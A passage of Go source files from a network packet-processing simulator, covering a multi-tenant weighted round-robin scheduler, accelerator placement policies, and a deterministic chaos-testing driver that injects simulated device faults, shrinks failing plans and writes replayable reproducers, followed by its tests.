		for j := range oa {
			if oa[j] != ob[j] {
				t.Fatalf("round %d diverged: %v vs %v", i, oa, ob)
			}
		}
	}
}
