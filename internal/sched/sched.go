// Package sched is the multi-tenant scheduler stage: it decides, under
// contention, which tenant a worker serves next (batch priority via
// deterministic weighted round-robin) and which local accelerator runs a
// tenant's offloaded work (placement policy).
//
// The package deliberately separates mechanism from policy. Workers and the
// offload path consume the two small interfaces below; policies are pure
// functions of explicit state, so they inherit the framework's determinism
// contract for free. Interference-aware placement in the Pythia sense —
// predicting slowdown from co-runner profiles and steering tenants away from
// contended devices — plugs in as just another PlacementPolicy; the
// per-tenant utilisation inputs it needs are already in the per-tenant
// Report sections.
package sched

// PlacementPolicy decides which same-socket device executes an offloaded
// aggregate. anno is the batch's device annotation (>= 1 selects an
// accelerator; the CPU case never reaches placement), n is the number of
// local devices. Implementations return a local device index in [0, n), or
// a value outside that range to signal "no such device" (the caller treats
// it as a placement error, mirroring the classic anno-out-of-range case).
//
// Policies must be deterministic pure functions of their arguments: they run
// on the worker hot path inside the simulation, so wall-clock, randomness
// and hidden mutable state are all banned (nbalint enforces the usual sim
// rules on this package).
type PlacementPolicy interface {
	DeviceFor(tenant, anno, n int) int
}

// Static is the classic single-tenant placement: annotation k selects local
// device k-1 for every tenant. It is the default policy and the disarm
// contract's identity case.
type Static struct{}

// DeviceFor maps annotation k to local device k-1 regardless of tenant.
func (Static) DeviceFor(tenant, anno, n int) int { return anno - 1 }

// TenantSpread offsets each tenant's device choice by its tenant index,
// spreading co-resident tenants across a socket's accelerators. It is the
// simplest interference-avoiding policy: with one device per socket it
// degenerates to Static, with several it keeps heavy co-tenants off each
// other's command queues.
type TenantSpread struct{}

// DeviceFor spreads tenants round-robin over the local device set.
func (TenantSpread) DeviceFor(tenant, anno, n int) int {
	if n <= 0 {
		return -1
	}
	return (anno - 1 + tenant) % n
}

// WRR is a deterministic smooth weighted round-robin over tenants. Each
// worker owns one instance and asks it, once per scheduling round, for the
// order in which to serve its tenant lanes: every tenant appears exactly
// once per round (arrivals must not be starved outright), but the rotation
// of who goes first — and therefore who gets the iteration's batch budget
// while it is fresh — tracks the tenants' configured shares.
//
// The zero-state behaviour is the identity: with one tenant the order is
// always [0], so single-tenant runs are bit-for-bit unchanged.
type WRR struct {
	weights []int64
	credit  []int64
	total   int64
	order   []int
}

// NewWRR builds a scheduler from tenant shares. Shares are scaled to
// integer weights (resolution 1/1000 of the share sum) so credit arithmetic
// is exact and replay-stable across architectures.
func NewWRR(shares []float64) *WRR {
	w := &WRR{
		weights: make([]int64, len(shares)),
		credit:  make([]int64, len(shares)),
		order:   make([]int, len(shares)),
	}
	var sum float64
	for _, s := range shares {
		sum += s
	}
	for i, s := range shares {
		wi := int64(1)
		if sum > 0 {
			if v := int64(s / sum * 1000); v > wi {
				wi = v
			}
		}
		w.weights[i] = wi
		w.total += wi
		w.order[i] = i
	}
	return w
}

// SetShares re-splits the scheduler over a new share vector (runtime
// reconfiguration: admit grows the vector, evict zeroes a slot, retune
// changes one). Weights are recomputed exactly as NewWRR computes them and
// all credits reset to zero, so the post-commit rotation is a pure function
// of the new shares — the same WRR a fresh run with these shares would
// start with.
func (w *WRR) SetShares(shares []float64) {
	fresh := NewWRR(shares)
	w.weights, w.credit, w.total, w.order = fresh.weights, fresh.credit, fresh.total, fresh.order
}

// Round returns the tenant service order for one scheduling round. The
// returned slice is reused across calls; callers must not retain it.
//
//nba:hotpath
func (w *WRR) Round() []int {
	n := len(w.order)
	if n <= 1 {
		return w.order
	}
	for i := range w.credit {
		w.credit[i] += w.weights[i]
	}
	// Insertion sort by (credit desc, index asc): n is the tenant count
	// (single digits), and the stable tie-break keeps replay determinism.
	for i := range w.order {
		w.order[i] = i
	}
	for i := 1; i < n; i++ {
		for j := i; j > 0; j-- {
			a, b := w.order[j-1], w.order[j]
			if w.credit[b] > w.credit[a] {
				w.order[j-1], w.order[j] = b, a
			} else {
				break
			}
		}
	}
	// Only the front-of-round winner is charged: it consumed the priority.
	w.credit[w.order[0]] -= w.total
	return w.order
}
