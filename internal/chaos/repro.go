package chaos

import (
	"encoding/json"
	"fmt"
	"os"

	"nba/internal/fault"
	"nba/internal/reconfig"
	"nba/internal/simtime"
)

// Reproducer files are plain JSON so a failing case can be attached to a
// bug report and replayed with `nbachaos replay <file>`. Times are
// picoseconds of virtual time (simtime.Time's unit); fault kinds use their
// String form.

type reproFile struct {
	App string `json:"app"`
	// Tenants, when present, replays the case as a co-resident tenant mix.
	Tenants []string `json:"tenants,omitempty"`
	// Seed drives the run's own randomness (LB coin flips, generator).
	Seed uint64 `json:"seed"`
	// TaskTimeoutPs overrides the rescue timeout; omitted = framework
	// default, negative = disabled.
	TaskTimeoutPs int64        `json:"task_timeout_ps,omitempty"`
	Events        []reproEvent `json:"events"`
	// Latent / ReconfigEvents replay control-plane churn cases: the latent
	// app pool and the reconfiguration timeline (kinds in their String
	// form, tenants by their in-run names).
	Latent         []string             `json:"latent,omitempty"`
	ReconfigEvents []reproReconfigEvent `json:"reconfig_events,omitempty"`
	// DisarmSampling replays the case with the integrity sentinel armed but
	// not sampling (the seeded corruption-leak configuration).
	DisarmSampling bool `json:"disarm_sampling,omitempty"`
}

type reproEvent struct {
	AtPs         int64   `json:"at_ps"`
	Kind         string  `json:"kind"`
	Device       int     `json:"device,omitempty"`
	Port         int     `json:"port,omitempty"`
	Queue        int     `json:"queue,omitempty"`
	KernelFactor float64 `json:"kernel_factor,omitempty"`
	CopyFactor   float64 `json:"copy_factor,omitempty"`
	RateFactor   float64 `json:"rate_factor,omitempty"`
	CorruptProb  float64 `json:"corrupt_prob,omitempty"`
	FlipPattern  byte    `json:"flip_pattern,omitempty"`
}

type reproReconfigEvent struct {
	AtPs     int64   `json:"at_ps"`
	Kind     string  `json:"kind"`
	Tenant   string  `json:"tenant,omitempty"`
	Share    float64 `json:"share,omitempty"`
	Device   int     `json:"device,omitempty"`
	Port     int     `json:"port,omitempty"`
	Capacity int     `json:"capacity,omitempty"`
}

// WriteRepro writes the case as a replayable reproducer file.
func WriteRepro(path string, c Case) error {
	rf := reproFile{
		App: c.App, Tenants: c.Tenants, Seed: c.Seed,
		TaskTimeoutPs: int64(c.TaskTimeout), Latent: c.Latent,
		DisarmSampling: c.DisarmSampling,
	}
	if c.Plan != nil {
		for _, ev := range c.Plan.Events {
			rf.Events = append(rf.Events, reproEvent{
				AtPs: int64(ev.At), Kind: ev.Kind.String(),
				Device: ev.Device, Port: ev.Port, Queue: ev.Queue,
				KernelFactor: ev.KernelFactor, CopyFactor: ev.CopyFactor,
				RateFactor:  ev.RateFactor,
				CorruptProb: ev.CorruptProb, FlipPattern: ev.FlipPattern,
			})
		}
	}
	if c.Reconfig != nil {
		for _, ev := range c.Reconfig.Events {
			rf.ReconfigEvents = append(rf.ReconfigEvents, reproReconfigEvent{
				AtPs: int64(ev.At), Kind: ev.Kind.String(),
				Tenant: ev.Tenant, Share: ev.Share,
				Device: ev.Device, Port: ev.Port, Capacity: ev.Capacity,
			})
		}
	}
	data, err := json.MarshalIndent(rf, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// ReadRepro loads a reproducer file back into a runnable case.
func ReadRepro(path string) (Case, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return Case{}, err
	}
	var rf reproFile
	if err := json.Unmarshal(data, &rf); err != nil {
		return Case{}, fmt.Errorf("chaos: %s: %w", path, err)
	}
	c := Case{
		App:            rf.App,
		Tenants:        rf.Tenants,
		Seed:           rf.Seed,
		TaskTimeout:    simtime.Time(rf.TaskTimeoutPs),
		Plan:           &fault.Plan{},
		Latent:         rf.Latent,
		DisarmSampling: rf.DisarmSampling,
	}
	for i, ev := range rf.Events {
		kind, err := fault.KindFromString(ev.Kind)
		if err != nil {
			return Case{}, fmt.Errorf("chaos: %s: event %d: %w", path, i, err)
		}
		c.Plan.Events = append(c.Plan.Events, fault.Event{
			At: simtime.Time(ev.AtPs), Kind: kind,
			Device: ev.Device, Port: ev.Port, Queue: ev.Queue,
			KernelFactor: ev.KernelFactor, CopyFactor: ev.CopyFactor,
			RateFactor:  ev.RateFactor,
			CorruptProb: ev.CorruptProb, FlipPattern: ev.FlipPattern,
		})
	}
	if len(rf.ReconfigEvents) > 0 {
		c.Reconfig = &reconfig.Plan{}
		for i, ev := range rf.ReconfigEvents {
			kind, err := reconfig.KindFromString(ev.Kind)
			if err != nil {
				return Case{}, fmt.Errorf("chaos: %s: reconfig event %d: %w", path, i, err)
			}
			c.Reconfig.Events = append(c.Reconfig.Events, reconfig.Event{
				At: simtime.Time(ev.AtPs), Kind: kind,
				Tenant: ev.Tenant, Share: ev.Share,
				Device: ev.Device, Port: ev.Port, Capacity: ev.Capacity,
			})
		}
	}
	return c, nil
}
