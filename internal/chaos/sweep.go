package chaos

import (
	"fmt"
	"path/filepath"
	"strings"

	"nba/internal/fault"
	"nba/internal/invariant"
	"nba/internal/par"
	"nba/internal/reconfig"
)

// reconfigEvents counts a possibly-nil reconfig plan's events.
func reconfigEvents(p *reconfig.Plan) int {
	if p == nil {
		return 0
	}
	return len(p.Events)
}

// SweepOptions configures a chaos sweep.
type SweepOptions struct {
	// Apps to sweep; nil selects the default Apps list.
	Apps []string
	// Seeds is how many seeds to sweep per app (cases = Seeds × len(Apps)).
	Seeds int
	// TenantCount >= 2 switches to co-residency sweeping: each case
	// co-hosts TenantCount apps (a seed-rotated window over the app list)
	// as equal-share tenants, cases = Seeds, and the determinism
	// cross-check also covers every per-tenant sub-digest.
	TenantCount int
	// Reconfig arms control-plane churn: every case additionally carries a
	// random reconfiguration plan (tenant admit/evict, share retunes,
	// device hot-plug, queue resizes) over its tenant mix plus one latent
	// app drawn from the rotation. Implies co-residency (TenantCount < 2
	// is promoted to 2: admits and evicts need a tenant split to act on).
	Reconfig bool
	// BaseSeed offsets the seed range (seeds are BaseSeed .. BaseSeed+Seeds-1).
	BaseSeed uint64
	// ReproDir, when non-empty, receives a reproducer file per failing case.
	ReproDir string
	// MaxShrinkRuns bounds the shrinking probes per failing case; 0 disables
	// shrinking (the reproducer then carries the unshrunk plan).
	MaxShrinkRuns int
	// Parallelism bounds how many case runs execute concurrently
	// (internal/par). <= 1 runs serially. Every case is shared-nothing, and
	// results are collected slot-indexed, so the sweep's digests are
	// byte-identical at any value.
	Parallelism int
}

// Failure is one failing case with its (possibly shrunk) reproducer.
type Failure struct {
	Case    Case
	Outcome *Outcome
	// ShrunkFrom is the total event count of the original failing plans —
	// fault events plus any reconfig events (unchanged when shrinking was
	// disabled or made no progress).
	ShrunkFrom int
	// ShrinkRuns is how many probe runs the shrinker spent.
	ShrinkRuns int
	// ReproPath is the written reproducer file ("" when ReproDir unset).
	ReproPath string
}

// SweepResult summarises one sweep.
type SweepResult struct {
	// Cases is the number of (app, seed) cases executed.
	Cases int
	// Failures holds every case that violated an invariant, in sweep order.
	Failures []Failure
	// CaseDigests are the per-case "app seed digest" lines in sweep order —
	// the exact input of Digest, exposed so equivalence tests can pinpoint
	// which case diverged.
	CaseDigests []string
	// Digest fingerprints the whole sweep: the hash of every case's trace
	// digest in order. Two sweeps of the same tree must agree on it exactly.
	Digest string
}

// Sweep runs Seeds × Apps chaos cases. Each case runs twice (determinism
// cross-check); failing cases are shrunk to minimal reproducers and, when
// ReproDir is set, written out as replayable plan files. The iteration
// order (apps outer in the given order, seeds inner ascending) is part of
// the sweep's identity and independent of Parallelism: the doubled runs of
// every case are themselves shared-nothing, so the sweep flattens to 2n
// independent jobs (job j is run j%2 of case j/2) collected slot-indexed,
// and digest pairing, shrinking and reproducer writing happen serially
// afterwards in sweep order.
func Sweep(opts SweepOptions) (*SweepResult, error) {
	apps := opts.Apps
	if apps == nil {
		apps = Apps
	}
	cases := make([]Case, 0, len(apps)*opts.Seeds)
	if opts.Reconfig {
		// One churn case per seed: a rotating tenant window plus the next
		// app in the rotation as the admittable latent tenant.
		tc := opts.TenantCount
		if tc < 2 {
			tc = 2
		}
		for s := 0; s < opts.Seeds; s++ {
			mix := make([]string, tc)
			for i := range mix {
				mix[i] = apps[(s+i)%len(apps)]
			}
			latent := []string{apps[(s+tc)%len(apps)]}
			cases = append(cases, RandomReconfigCase(mix, latent, opts.BaseSeed+uint64(s)))
		}
	} else if opts.TenantCount >= 2 {
		// One case per seed, co-hosting a rotating window over the app list
		// so every app appears in every tenant slot across the seed range.
		for s := 0; s < opts.Seeds; s++ {
			mix := make([]string, opts.TenantCount)
			for i := range mix {
				mix[i] = apps[(s+i)%len(apps)]
			}
			cases = append(cases, RandomTenantCase(mix, opts.BaseSeed+uint64(s)))
		}
	} else {
		for _, app := range apps {
			for s := 0; s < opts.Seeds; s++ {
				cases = append(cases, RandomCase(app, opts.BaseSeed+uint64(s)))
			}
		}
	}
	workers := opts.Parallelism
	if workers < 1 {
		workers = 1
	}
	outs, err := par.MapErr(2*len(cases), workers, func(j int) (*Outcome, error) {
		c := cases[j/2]
		out, err := Run(c)
		if err != nil {
			return nil, fmt.Errorf("chaos: case %s/%d: %w", c.Label(), c.Seed, err)
		}
		return out, nil
	})
	if err != nil {
		return nil, err
	}

	res := &SweepResult{Cases: len(cases)}
	for i, c := range cases {
		out, dup := outs[2*i], outs[2*i+1]
		if !sameDigests(out, dup) {
			out.Violations = append(out.Violations, invariant.Violation{
				Check: invariant.CheckDeterminism,
				Msg:   fmt.Sprintf("trace digests differ across identical runs: %s vs %s", digestLine(c, out), digestLine(c, dup)),
			})
		}
		res.CaseDigests = append(res.CaseDigests, digestLine(c, out))
		if !out.Failed() {
			continue
		}
		f := Failure{Case: c, Outcome: out, ShrunkFrom: len(c.Plan.Events) + reconfigEvents(c.Reconfig)}
		if opts.MaxShrinkRuns > 0 {
			prof := CaseProfile(c)
			replay := f.Case // mutated plan-by-plan as each shrink pass lands
			stillFails := func(p *fault.Plan) bool {
				cand := replay
				cand.Plan = p
				o, err := RunTwice(cand)
				return err == nil && o.Failed()
			}
			valid := func(p *fault.Plan) bool {
				return p.Validate(prof.Devices, prof.Ports, prof.Queues) == nil
			}
			f.Case.Plan, f.ShrinkRuns = Shrink(c.Plan, stillFails, valid, opts.MaxShrinkRuns)
			replay.Plan = f.Case.Plan
			if budget := opts.MaxShrinkRuns - f.ShrinkRuns; budget > 0 && reconfigEvents(c.Reconfig) > 0 {
				rprof := ReconfigProfile(c.Tenants, c.Latent)
				rcStillFails := func(p *reconfig.Plan) bool {
					cand := replay
					cand.Reconfig = p
					o, err := RunTwice(cand)
					return err == nil && o.Failed()
				}
				rcValid := func(p *reconfig.Plan) bool {
					return p.Validate(rprof.Initial, rprof.Latent, rprof.Devices, rprof.Ports) == nil
				}
				var rcRuns int
				f.Case.Reconfig, rcRuns = ShrinkReconfig(c.Reconfig, rcStillFails, rcValid, budget)
				f.ShrinkRuns += rcRuns
			}
		}
		if opts.ReproDir != "" {
			f.ReproPath = filepath.Join(opts.ReproDir, fmt.Sprintf("repro-%s-%d.json", strings.ReplaceAll(c.Label(), "+", "_"), c.Seed))
			if err := WriteRepro(f.ReproPath, f.Case); err != nil {
				return nil, err
			}
		}
		res.Failures = append(res.Failures, f)
	}
	res.Digest = combinedDigest(res.CaseDigests)
	return res, nil
}
