// Package chaos is the deterministic chaos-search driver: it sweeps seeded
// random fault plans (fault.RandomPlan) across the standard applications,
// runs every case under the invariant oracle (internal/invariant) with the
// run trace digested, runs each case twice to cross-check determinism, and
// shrinks any failing plan to a minimal replayable reproducer.
//
// Everything is a pure function of (app, seed, plan): there is no wall
// clock and no global randomness anywhere in the loop, so a failing case is
// fully identified by its reproducer file and a sweep's combined digest is
// a build fingerprint — two checkouts that disagree on it differ in
// behaviour, not in luck.
package chaos

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strings"

	"nba/internal/bench"
	"nba/internal/core"
	"nba/internal/fault"
	"nba/internal/integrity"
	"nba/internal/invariant"
	"nba/internal/overload"
	"nba/internal/reconfig"
	"nba/internal/rng"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// Apps are the default applications swept (every offload family: lookup,
// crypto, pattern matching).
var Apps = []string{"ipv4", "ipv6", "ipsec", "ids"}

// Run shape shared by every chaos case. Small on purpose: a case must cost
// milliseconds of real time so a sweep can afford hundreds of them, while
// still spanning enough virtual time for the ALB control loop to step and
// for fault windows to open and close.
const (
	caseWarmup   = 200 * simtime.Microsecond
	caseDuration = 3 * simtime.Millisecond
	caseRateBps  = 1.5e9 // per port
	caseWorkers  = 2
	casePorts    = 2
	// caseDrainGrace must cover the slowest legitimate drain, not just the
	// rescue TaskTimeout (default 5 ms): an unrecovered hang makes every
	// offload batch during drain pay the full rescue timeout before its CPU
	// fallback, so draining full NIC rings of the most expensive app (IDS)
	// can take over 100 virtual ms. Clean runs never pay this — the watchdog
	// firing on a drained run is a free virtual-time jump.
	caseDrainGrace = 200 * simtime.Millisecond
)

// CaseHorizon is the virtual time one chaos run simulates (warmup plus
// measured duration). The perf trajectory uses it to convert executed cases
// into simulated seconds.
func CaseHorizon() simtime.Time { return caseWarmup + caseDuration }

// Case is one chaos run: an application (or a co-resident tenant mix), a
// seed (driving the run's own randomness) and a fault plan. The zero
// TaskTimeout selects the framework default; a negative value disables the
// rescue timeout (used by tests to seed a genuine stuck-drain bug).
type Case struct {
	App  string
	Seed uint64
	// Tenants, when non-empty, co-hosts the listed apps as equal-share
	// tenants on one system (App is ignored); the fault plan may then
	// target any tenant's RX queues.
	Tenants     []string
	Plan        *fault.Plan
	TaskTimeout simtime.Time
	// Latent lists apps available for mid-run admission (they become
	// core.Config.LatentTenants named by latentName); Reconfig is the
	// control-plane churn timeline applied alongside the fault plan.
	// Reconfig cases require tenant mode (Tenants non-empty).
	Latent   []string
	Reconfig *reconfig.Plan
	// DisarmSampling arms the integrity sentinel without sampling (rate 0
	// instead of the default 1): the corrupt-leak oracle stays live but
	// nothing is re-executed or quarantined, so a DeviceCorrupt plan becomes
	// a seeded corruption-leak bug (used to prove the oracle catches what
	// the sentinel normally contains).
	DisarmSampling bool
}

// tenantName / latentName are the deterministic tenant names a case's apps
// get inside the run; reconfig plans reference tenants by these names.
func tenantName(i int, app string) string { return fmt.Sprintf("t%d-%s", i, app) }
func latentName(i int, app string) string { return fmt.Sprintf("l%d-%s", i, app) }

// Label names the case in sweep output and digests: the app, or the
// "a+b+..." tenant mix.
func (c Case) Label() string {
	if len(c.Tenants) == 0 {
		return c.App
	}
	return strings.Join(c.Tenants, "+")
}

// Outcome is the observable result of one case.
type Outcome struct {
	// Digest is the run's trace digest (identity of the full event stream).
	Digest string
	// TenantDigests are the per-tenant sub-digests of a multi-tenant case
	// (empty for single-app cases); cross-checked like Digest, so tenant
	// attribution itself is under the determinism oracle.
	TenantDigests []string
	// Violations are the oracle's findings, empty for a correct run.
	Violations []invariant.Violation
	// Suppressed counts violations beyond the oracle's per-check cap.
	Suppressed int
	// Report is the run's measurement report.
	Report *core.Report
}

// Failed reports whether the case violated any invariant.
func (o *Outcome) Failed() bool { return len(o.Violations) > 0 }

// Profile returns the RandomPlan profile matching the chaos run shape.
func Profile() fault.Profile {
	return fault.Profile{
		Horizon: caseWarmup + caseDuration,
		Devices: 1,
		Ports:   casePorts,
		Queues:  caseWorkers,
	}
}

// RandomCase derives the fault plan for (app, seed). The plan depends on
// both, so sweeping several apps over the same seed range still explores
// distinct timelines.
func RandomCase(app string, seed uint64) Case {
	r := rng.New(seed*0x9E3779B97F4A7C15 + appSalt(app))
	return Case{App: app, Seed: seed, Plan: fault.RandomPlan(r, Profile())}
}

// TenantProfile is the RandomPlan profile for an n-tenant case: the queue
// space grows tenant-major, so random RxQueueDown/Up events land on (and
// thereby target) individual tenants' queues.
func TenantProfile(n int) fault.Profile {
	p := Profile()
	p.Queues = caseWorkers * n
	return p
}

// RandomTenantCase derives a co-residency case: the listed apps as
// equal-share tenants with a fault plan drawn from the widened,
// tenant-targeting queue space.
func RandomTenantCase(apps []string, seed uint64) Case {
	c := Case{Tenants: apps, Seed: seed}
	r := rng.New(seed*0x9E3779B97F4A7C15 + appSalt(c.Label()))
	c.Plan = fault.RandomPlan(r, TenantProfile(len(apps)))
	return c
}

// ReconfigProfile is the reconfig.RandomPlan profile for a case's tenant
// shape: epochs land inside the case horizon and reference tenants by their
// in-run names.
func ReconfigProfile(tenants, latent []string) reconfig.Profile {
	initial := make([]string, len(tenants))
	for i, app := range tenants {
		initial[i] = tenantName(i, app)
	}
	lat := make([]string, len(latent))
	for i, app := range latent {
		lat[i] = latentName(i, app)
	}
	return reconfig.Profile{
		Horizon:       CaseHorizon(),
		Initial:       initial,
		Latent:        lat,
		Devices:       1,
		Ports:         casePorts,
		QueueCapacity: topology().RxQueueCapacity,
	}
}

// RandomReconfigCase derives a churn case: the listed apps as co-resident
// tenants, the latent apps admittable mid-run, a fault plan from the tenant
// queue space and a reconfig plan drawn from an independent rng stream (so
// arming churn does not re-roll the fault timeline of the same seed).
func RandomReconfigCase(apps, latent []string, seed uint64) Case {
	c := RandomTenantCase(apps, seed)
	c.Latent = latent
	r := rng.New(seed*0xD1B54A32D192ED03 + appSalt(c.Label()+"+reconfig"))
	c.Reconfig = reconfig.RandomPlan(r, ReconfigProfile(apps, latent))
	return c
}

// CaseProfile returns the plan-validation profile matching the case shape.
func CaseProfile(c Case) fault.Profile {
	if len(c.Tenants) > 1 {
		return TenantProfile(len(c.Tenants))
	}
	return Profile()
}

// appSalt folds the app name into the plan seed (FNV-1a).
func appSalt(app string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(app); i++ {
		h ^= uint64(app[i])
		h *= 1099511628211
	}
	return h
}

// topology returns the chaos machine: one socket, two ports, one GPU.
func topology() *sysinfo.Topology {
	return sysinfo.SingleSocketTopology(caseWorkers+2, casePorts)
}

// Run executes one case under the oracle and returns its outcome. Run
// errors (bad app name, invalid plan) are setup failures, not violations.
func Run(c Case) (*Outcome, error) {
	ck := invariant.New()
	// Capacity 1: the digest covers every event regardless of ring size,
	// and chaos only needs the digest.
	tr := trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	cfg := core.Config{
		Topology:          topology(),
		WorkersPerSocket:  caseWorkers,
		OfferedBpsPerPort: caseRateBps,
		Warmup:            caseWarmup,
		Duration:          caseDuration,
		Seed:              c.Seed,
		ALBObserve:        100 * simtime.Microsecond,
		ALBUpdate:         500 * simtime.Microsecond,
		Tracer:            tr,
		Checker:           ck,
		DrainGrace:        caseDrainGrace,
		FaultPlan:         c.Plan,
		TaskTimeout:       c.TaskTimeout,
		// Chaos always runs with overload control armed: bounded queues,
		// backpressure, shedding and the governor are themselves searched
		// (queue.bound, conservation-with-shed, determinism of the shed
		// decisions across the doubled runs).
		Overload: overload.Defaults(),
		// And with the integrity sentinel at full sampling: every DeviceCorrupt
		// window a random plan opens must be detected and quarantined, so a
		// corrupted frame reaching TX (corrupt.leak) or an unbalanced
		// quarantine count (conservation) is a caught violation, and the
		// escalation path itself is under the determinism oracle.
		Integrity: &integrity.Config{SampleRate: 1},
	}
	if c.DisarmSampling {
		cfg.Integrity.SampleRate = 0
	}
	if len(c.Tenants) > 0 {
		for i, app := range c.Tenants {
			cfgText, err := bench.AppConfig(app, "adaptive")
			if err != nil {
				return nil, err
			}
			cfg.Tenants = append(cfg.Tenants, core.Tenant{
				// Index prefix keeps names unique when a mix repeats an app.
				Name:        tenantName(i, app),
				GraphConfig: cfgText,
				Share:       1,
				Generator:   bench.GeneratorFor(app, 64, c.Seed+1+uint64(i)),
			})
		}
		for i, app := range c.Latent {
			cfgText, err := bench.AppConfig(app, "adaptive")
			if err != nil {
				return nil, err
			}
			cfg.LatentTenants = append(cfg.LatentTenants, core.Tenant{
				Name:        latentName(i, app),
				GraphConfig: cfgText,
				Share:       1,
				// The generator seed stream continues past the active tenants
				// so an admitted tenant's traffic is independent of the mix.
				Generator: bench.GeneratorFor(app, 64, c.Seed+1+uint64(len(c.Tenants)+i)),
			})
		}
		cfg.Reconfig = c.Reconfig
	} else {
		cfgText, err := bench.AppConfig(c.App, "adaptive")
		if err != nil {
			return nil, err
		}
		cfg.GraphConfig = cfgText
		cfg.Generator = bench.GeneratorFor(c.App, 64, c.Seed+1)
	}
	sys, err := core.NewSystem(cfg)
	if err != nil {
		return nil, err
	}
	rep, err := sys.Run()
	if err != nil {
		return nil, err
	}
	out := &Outcome{
		Digest:     tr.Digest(),
		Violations: ck.Violations(),
		Suppressed: ck.Suppressed(),
		Report:     rep,
	}
	if len(c.Tenants) > 0 {
		for _, trep := range rep.Tenants {
			out.TenantDigests = append(out.TenantDigests, trep.Digest)
		}
	}
	return out, nil
}

// digestLine renders one case's identity line for the combined digest:
// label, seed, global digest, then any per-tenant sub-digests, so a sweep
// fingerprint also pins tenant attribution.
func digestLine(c Case, out *Outcome) string {
	line := fmt.Sprintf("%s %d %s", c.Label(), c.Seed, out.Digest)
	for _, d := range out.TenantDigests {
		line += " " + d
	}
	return line
}

// sameDigests reports whether two outcomes agree on the global digest and
// every tenant sub-digest.
func sameDigests(a, b *Outcome) bool {
	if a.Digest != b.Digest || len(a.TenantDigests) != len(b.TenantDigests) {
		return false
	}
	for i := range a.TenantDigests {
		if a.TenantDigests[i] != b.TenantDigests[i] {
			return false
		}
	}
	return true
}

// RunTwice executes the case twice and cross-checks the trace digests: a
// mismatch means the run is not a pure function of (config, seed, plan) and
// is recorded as a determinism violation on the returned outcome.
func RunTwice(c Case) (*Outcome, error) {
	a, err := Run(c)
	if err != nil {
		return nil, err
	}
	b, err := Run(c)
	if err != nil {
		return nil, err
	}
	if !sameDigests(a, b) {
		a.Violations = append(a.Violations, invariant.Violation{
			Check: invariant.CheckDeterminism,
			Msg:   fmt.Sprintf("trace digests differ across identical runs: %s vs %s", digestLine(c, a), digestLine(c, b)),
		})
	}
	return a, nil
}

// combinedDigest hashes the per-case digests (in sweep order) into one
// build fingerprint.
func combinedDigest(lines []string) string {
	h := sha256.New()
	for _, l := range lines {
		h.Write([]byte(l))
		h.Write([]byte{'\n'})
	}
	return hex.EncodeToString(h.Sum(nil))
}
