package chaos

import (
	"path/filepath"
	"testing"

	"nba/internal/fault"
	"nba/internal/invariant"
	"nba/internal/reconfig"
	"nba/internal/simtime"
)

const ms = simtime.Millisecond

// TestOracleFaultFreeCleans is the false-positive guard: with no fault plan
// at all, every app must pass every invariant. An oracle that cries wolf on
// healthy runs is worse than no oracle.
func TestOracleCleanOnFaultFreeRuns(t *testing.T) {
	for _, app := range Apps {
		out, err := Run(Case{App: app, Seed: 3})
		if err != nil {
			t.Fatalf("%s: %v", app, err)
		}
		if out.Failed() {
			t.Errorf("%s fault-free run violated invariants: %v", app, out.Violations)
		}
		if out.Report.TxPackets == 0 {
			t.Errorf("%s fault-free run transmitted nothing", app)
		}
	}
}

// TestOracleCleanUnderRandomFaults: the shipped tree must survive random
// fault plans without violations, and identically across repeated runs.
func TestOracleCleanUnderRandomFaults(t *testing.T) {
	for _, app := range Apps {
		for seed := uint64(10); seed < 13; seed++ {
			c := RandomCase(app, seed)
			out, err := RunTwice(c)
			if err != nil {
				t.Fatalf("%s/%d: %v", app, seed, err)
			}
			if out.Failed() {
				t.Errorf("%s/%d violated invariants under plan %v: %v",
					app, seed, c.Plan.Events, out.Violations)
			}
		}
	}
}

func TestRunDeterministic(t *testing.T) {
	c := RandomCase("ipv4", 99)
	a, err := Run(c)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(c)
	if err != nil {
		t.Fatal(err)
	}
	if a.Digest != b.Digest {
		t.Fatalf("same case, different digests: %s vs %s", a.Digest, b.Digest)
	}
}

// --- shrinker ---

// hangPredicate is a synthetic failure oracle for fast shrinker tests: the
// plan "fails" iff it hangs device 0 without ever recovering it.
func hangPredicate(p *fault.Plan) bool {
	hungAt := simtime.Time(-1)
	for _, ev := range p.Sorted() {
		switch {
		case ev.Kind == fault.DeviceHang && ev.Device == 0:
			hungAt = ev.At
		case ev.Kind == fault.DeviceRecover && ev.Device == 0 && hungAt >= 0:
			hungAt = -1
		}
	}
	return hungAt >= 0
}

func validForProfile(p *fault.Plan) bool {
	prof := Profile()
	return p.Validate(prof.Devices, prof.Ports, prof.Queues) == nil
}

func TestShrinkToMinimal(t *testing.T) {
	// A noisy plan: an unrecovered hang (the actual bug trigger) buried
	// under a slowdown window, a queue flap and a rate burst.
	noisy := &fault.Plan{Events: []fault.Event{
		{At: 300 * simtime.Microsecond, Kind: fault.DeviceSlowdown, Device: 0, KernelFactor: 4, CopyFactor: 4},
		{At: 500 * simtime.Microsecond, Kind: fault.DeviceRecover, Device: 0},
		{At: 600 * simtime.Microsecond, Kind: fault.RxQueueDown, Port: 1, Queue: 0},
		{At: 1 * ms, Kind: fault.DeviceHang, Device: 0},
		{At: 1200 * simtime.Microsecond, Kind: fault.RxQueueUp, Port: 1, Queue: 0},
		{At: 2 * ms, Kind: fault.RateBurst, RateFactor: 3},
		{At: 2500 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 1},
	}}
	if !hangPredicate(noisy) {
		t.Fatal("noisy plan should satisfy the predicate")
	}
	shrunk, runs := Shrink(noisy, hangPredicate, validForProfile, 200)
	if len(shrunk.Events) > 2 {
		t.Fatalf("shrunk to %d events, want <= 2: %v (%d runs)", len(shrunk.Events), shrunk.Events, runs)
	}
	if !hangPredicate(shrunk) {
		t.Fatalf("shrunk plan no longer fails: %v", shrunk.Events)
	}
	if !validForProfile(shrunk) {
		t.Fatalf("shrunk plan invalid: %v", shrunk.Events)
	}
}

func TestShrinkFixedPoint(t *testing.T) {
	minimal := &fault.Plan{Events: []fault.Event{
